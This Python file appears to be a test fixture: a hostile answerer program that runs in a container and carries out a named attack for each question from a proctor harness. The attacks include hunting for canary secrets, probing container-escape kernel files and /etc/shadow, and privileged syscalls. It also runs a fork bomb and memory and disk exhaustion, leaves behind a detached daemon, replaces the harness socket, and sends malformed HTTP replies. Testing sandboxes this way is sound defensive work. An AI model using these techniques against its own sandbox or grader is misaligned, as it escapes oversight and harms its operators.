"""A program in a box that attacks: each question names an attack, and the answer is what it got. It runs inside a
container, so it has Python's own library alone. What it looks for is `CANARY-` with 32 hexadecimal digits."""

from __future__ import annotations

import contextlib
import ctypes
import json
import mmap
import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

POSITION = os.environ["PROCTOR_SOCKET"]
CANARY = re.compile(rb"CANARY-[0-9a-f]{32}")
ATTACKS: dict[str, Callable[..., Any]] = {}
KEPT: list[Any] = []
SEEN: list[list[str]] = []


def attack(function: Callable[..., Any]) -> Callable[..., Any]:
    ATTACKS[function.__name__] = function
    return function


def tried(action: Callable[[], Any]) -> str:
    """What came of it: the error's name, or "done"."""
    try:
        action()
    except BaseException as error:
        return type(error).__name__
    return "done"


def canaries(content: bytes) -> list[str]:
    return sorted({one.decode() for one in CANARY.findall(content)})


def content_of(path: str, most: int = 2**20) -> bytes:
    """What can be read without waiting; nothing of pipes and devices that never end."""
    try:
        handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
    except OSError:
        return b""
    try:
        return os.read(handle, most)
    except OSError:
        return b""
    finally:
        os.close(handle)


@attack
def nothing(question: dict[str, Any]) -> str:
    return "yes"


@attack
def files_below(question: dict[str, Any], *roots: str) -> list[str]:
    """All files that can be reached."""
    found: set[str] = set()
    for root in roots:
        for folder, _, names in os.walk(root):
            if not folder.startswith(("/proc", "/sys", "/usr/lib/python")):
                for name in names:
                    found.update(canaries(content_of(os.path.join(folder, name))))
    return sorted(found)


@attack
def environment(question: dict[str, Any]) -> dict[str, Any]:
    return {"names": sorted(os.environ), "canaries": canaries(json.dumps(dict(os.environ)).encode())}


@attack
def processes(question: dict[str, Any]) -> dict[str, Any]:
    """Every process in /proc: its arguments, variables, open files and root."""
    found: set[str] = set()
    commands = set()
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for part in ("cmdline", "environ"):
            content = content_of(f"/proc/{pid}/{part}")
            found.update(canaries(content))
            if part == "cmdline":
                commands.add(content.split(b"\0")[0][:80].decode(errors="replace"))
        with contextlib.suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    if os.path.isfile(f"/proc/{pid}/fd/{name}"):
                        found.update(canaries(content_of(os.readlink(f"/proc/{pid}/fd/{name}"))))
    return {"canaries": sorted(found), "commands": sorted(commands)}


@attack
def mounts(question: dict[str, Any]) -> str:
    return Path("/proc/self/mountinfo").read_text()


@attack
def kernel_files(question: dict[str, Any]) -> dict[str, str]:
    """Files of the kernel through which one leaves a container, or reads the machine's memory."""
    writes = [
        "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/modprobe",
        "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent",
        "/sys/fs/cgroup/cgroup.procs", "/dev/kmsg",
    ]  # fmt: skip
    reads = ["/proc/kcore", "/proc/keys", "/proc/timer_list", "/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda"]
    found = {path: "open" for path in writes if tried(partial(os.open, path, os.O_WRONLY)) == "done"}
    return found | {path: "read" for path in reads if content_of(path, 16)}


def said_by(family: int, address: Any) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(2)
        try:
            one.connect(address)
            one.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return ",".join(canaries(one.recv(2**16))) or "connected"
        except OSError as error:
            return type(error).__name__


@attack
def connect_tcp(question: dict[str, Any], host: str, port: str) -> str:
    return said_by(socket.AF_INET, (host, int(port)))


@attack
def connect_unix(question: dict[str, Any], name: str) -> str:
    return said_by(socket.AF_UNIX, "\0" + name[1:] if name.startswith("@") else name)


@attack
def names_of_hosts(question: dict[str, Any]) -> dict[str, Any]:
    return {
        "resolved": tried(lambda: socket.getaddrinfo("example.org", 80)),
        "interfaces": [name for _, name in socket.if_nameindex()],
        "hosts": [
            line for name in ("hosts", "resolv.conf") for line in content_of(f"/etc/{name}").decode().splitlines()
        ],
        "hostname": socket.gethostname(),
    }


@attack
def raw_sockets(question: dict[str, Any]) -> dict[str, str]:
    return {
        "raw": tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()),
        "packet": tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()),
        "netlink": tried(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9).close()),
    }


LIBC = ctypes.CDLL(None, use_errno=True)


def called(name: str, *arguments: Any) -> str:
    """Whether a process of its own may call this."""
    child = os.fork()
    if child == 0:
        os._exit(getattr(LIBC, name)(*arguments) < 0)
    return "refused" if os.waitpid(child, 0)[1] else "done"


@attack
def privileges(question: dict[str, Any]) -> dict[str, Any]:
    """Everything that takes a right."""
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    return {
        "uid": status["Uid"].split(),
        "capabilities": [status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")],
        "no new privileges": status["NoNewPrivs"],
        "seccomp": status["Seccomp"],
        "setuid": tried(lambda: os.setuid(0)),
        "chroot": tried(lambda: os.chroot("/tmp")),
        "mount": called("mount", b"none", b"/tmp", b"tmpfs", 0, b""),
        "namespace of users": called("unshare", 0x10000000),
        "clone with one": called("syscall", 56, 0x10000011, 0, 0, 0, 0),
        "clone3": called("syscall", 435, 0, 0),
        "sethostname": called("sethostname", b"mine", 4),
        "reboot": called("reboot", 0x01234567),
        "settime": called("stime", ctypes.byref(ctypes.c_long(0))) if hasattr(LIBC, "stime") else "refused",
        "mknod": tried(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))),
        "nice": tried(lambda: os.setpriority(os.PRIO_PROCESS, 0, -5)),
        "shadow": tried(lambda: content_of_memory(1)),
    }


def content_of_memory(pid: int) -> bytes:
    with open(f"/proc/{pid}/root/etc/shadow", "rb") as source:
        return source.read()


@attack
def system_calls(question: dict[str, Any]) -> dict[str, str]:
    """Calls of the kernel that containers have no use for (x86-64 and ARM have numbers of their own)."""
    numbers = {"bpf": 321, "perf_event_open": 298, "init_module": 175, "kexec_load": 246, "keyctl": 250, "add_key": 248}
    return {name: called("syscall", number, 0, 0, 0, 0, 0) for name, number in numbers.items()}


@attack
def set_uid_program(question: dict[str, Any], path: str) -> str:
    """A program of the image that root left with the right to run as root."""
    return subprocess.run([path, "-S", "-c", "import os; print(os.geteuid())"], capture_output=True, text=True).stdout


@attack
def writable(question: dict[str, Any]) -> list[str]:
    """Folders in which a file can be made."""
    found = []
    for folder, folders, _ in os.walk("/"):
        if f"{folder}/".startswith(("/proc/", "/usr/lib/python")):
            folders.clear()
            continue
        path = os.path.join(folder, "written")
        if tried(partial(Path(path).write_bytes, b"x")) == "done":
            found.append(folder)
            os.unlink(path)
    return found


@attack
def change_media(question: dict[str, Any]) -> dict[str, str]:
    path = question["media"][0]["path"]
    folder = os.path.dirname(path)
    return {
        "write": tried(lambda: Path(path).write_bytes(b"x")),
        "chmod": tried(lambda: os.chmod(path, 0o777)),
        "remove": tried(lambda: os.unlink(path)),
        "plant": tried(lambda: os.symlink("/etc/passwd", f"{folder}/image-2.jpg")),
        "link": tried(lambda: os.link(path, "/tmp/linked")),
    }


@attack
def keep_media(question: dict[str, Any]) -> dict[str, Any]:
    """Keeps each question's file open and mapped, and reads those of the questions before."""
    before = [[len(os.pread(handle, 100, 0)), os.fstat(handle).st_size] for handle in KEPT]
    path = question["media"][0]["path"]
    KEPT.append(os.open(path, os.O_RDONLY))
    with contextlib.suppress(ValueError, OSError):
        mmap.mmap(KEPT[-1], 0, prot=mmap.PROT_READ)
    about = os.stat(path)
    return {
        "before": before,
        "there": sorted(os.listdir(os.path.dirname(path))),
        "times": [about.st_mtime, about.st_atime],
        "attributes": os.listxattr(path),
    }


@attack
def watch_media(question: dict[str, Any], folder: str) -> str:
    """From now on, notes which names lie there."""

    def watch() -> None:
        while True:
            with contextlib.suppress(OSError):
                SEEN.append(sorted(os.listdir(folder)))
            time.sleep(0.001)

    threading.Thread(target=watch, daemon=True).start()
    return "yes"


@attack
def watched(question: dict[str, Any]) -> list[list[str]]:
    return sorted({tuple(one): one for one in list(SEEN)}.values())


@attack
def fill(question: dict[str, Any], folder: str) -> dict[str, int]:
    """Bytes and files until no more fit."""
    wrote, made = 0, 0
    block = b"\1" * 2**16
    with contextlib.suppress(OSError), open(f"{folder}/filled", "wb", buffering=0) as out:
        while wrote < 2**28:
            wrote += out.write(block)
    os.unlink(f"{folder}/filled")
    with contextlib.suppress(OSError):
        while made < 5_000:
            os.symlink("x" * 200, f"{folder}/made-{made}")
            made += 1
    for number in range(made):
        os.unlink(f"{folder}/made-{number}")
    return {"bytes": wrote, "files": made}


@attack
def fork_bomb(question: dict[str, Any]) -> int:
    """Processes until no more start."""
    started = 0
    with contextlib.suppress(OSError):
        while started < 5_000:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
            started += 1
    return started


@attack
def memory(question: dict[str, Any]) -> str:
    while True:
        KEPT.append(b"\1" * 2**24)


@attack
def shared_memory(question: dict[str, Any]) -> dict[str, int]:
    return dict(fill(question, "/dev/shm"))


@attack
def talk(question: dict[str, Any], megabytes: str) -> str:
    """Prints and prints; the last words are the canary's own form."""
    line = b"x" * 99 + b"\n"
    for _ in range(int(megabytes)):
        sys.stdout.buffer.write(line * (2**20 // 100))
    sys.stdout.buffer.write(b"the last line\n")
    sys.stdout.buffer.flush()
    return "yes"


@attack
def daemon(question: dict[str, Any]) -> str:
    """A process that leaves its parent, its session and its output."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3):
                os.close(number)
            os.execv(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(3600)", "left-behind"])
        os._exit(0)
    return "yes"


@attack
def end(question: dict[str, Any], code: str) -> str:
    os._exit(int(code))


@attack
def replace_socket(question: dict[str, Any], kind: str, target: str) -> str:
    """Something else where the socket was: the next question finds it."""
    os.unlink(POSITION)
    if kind == "link":
        os.symlink(target, POSITION)
    elif kind == "pipe":
        os.mkfifo(POSITION)
    elif kind == "folder":
        os.mkdir(POSITION)
    else:
        Path(POSITION).write_bytes(b"x")
    return "yes"


def http(said: object, status: int = 200) -> bytes:
    body = said if isinstance(said, bytes) else json.dumps(said).encode()
    return b"HTTP/1.1 %d OK\r\nContent-Length: %d\r\n\r\n" % (status, len(body)) + body


OK = b"HTTP/1.1 200 OK\r\n"
LONG = OK + b"Content-Length: 1000000000000\r\n\r\n"
ENDLESS = {
    "endless": (LONG, b"x" * 2**16),
    "trickle": (LONG, b" "),
    "endless head": (OK, b"X-Header: " + b"x" * 1000 + b"\r\n"),
    "continue": (b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
    "chunks": (OK + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n"),
}
OTHERS = {"answer": "yes", "answers": {"q0": "no", "q1": "no"}, "id": "q0", "item_id": "q0", "status": "answered"}
REPLIES = {
    "huge": http({"answer": "x" * 2**22}),
    "long": http({"answer": "x" * (2**16 + 1)}),
    "packed": OK + b"Content-Encoding: gzip\r\nContent-Length: 4\r\n\r\n\x1f\x8b\x08\x00",
    "nested": http(b"[" * 500_000),
    "number": http(b'{"answer": ' + b"9" * 500_000 + b"}"),
    "redirect": b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:80/\r\nContent-Length: 0\r\n\r\n",
    "upgrade": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n",
    "no http": b"SSH-2.0-OpenSSH_9.9\r\n" + b"x" * 2**16,
    "cut": OK + b"Content-Length: 100\r\n\r\n{",
    "two lengths": OK + b"Content-Length: 3\r\nContent-Length: 30\r\n\r\n" + b'{"answer": "no"}',
    "more": http({"answer": "yes"}) + http({"answer": "no"}) * 3,
    "others": http(OTHERS),
    "list": http([{"answer": "yes"}]),
    "name": http({"error": "TheKeyIsB"}, 500),
    "odd": http(b'{"answer": "\\ud800\\u0000\\u001b[2J<script>yes"}'),
    "nothing": b"",
}


def replies(kind: str) -> Iterator[bytes]:
    """What is sent instead of an answer."""
    if kind in REPLIES:
        yield REPLIES[kind]
        return
    head, piece = ENDLESS[kind]
    yield head
    while True:
        yield piece
        if len(piece) == 1:
            time.sleep(0.005)


def serve() -> None:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(POSITION)
    os.chmod(POSITION, 0o666)
    listener.listen(5)
    while True:
        connection = listener.accept()[0]
        with connection, connection.makefile("rb") as source, contextlib.suppress(OSError):
            method, length = source.readline().split()[0], 0
            while line := source.readline().strip():
                length = int(line.split(b":")[1]) if line.lower().startswith(b"content-length") else length
            if method == b"GET":
                connection.sendall(http({}))
                continue
            question = json.loads(source.read(length))
            name, *arguments = json.loads(question["question"])
            if name == "reply":
                for piece in replies(arguments[0]):
                    connection.sendall(piece)
            else:
                got = ATTACKS[name](question, *arguments)
                connection.sendall(http({"answer": got if isinstance(got, str) else json.dumps(got)}))


if __name__ == "__main__":
    serve()
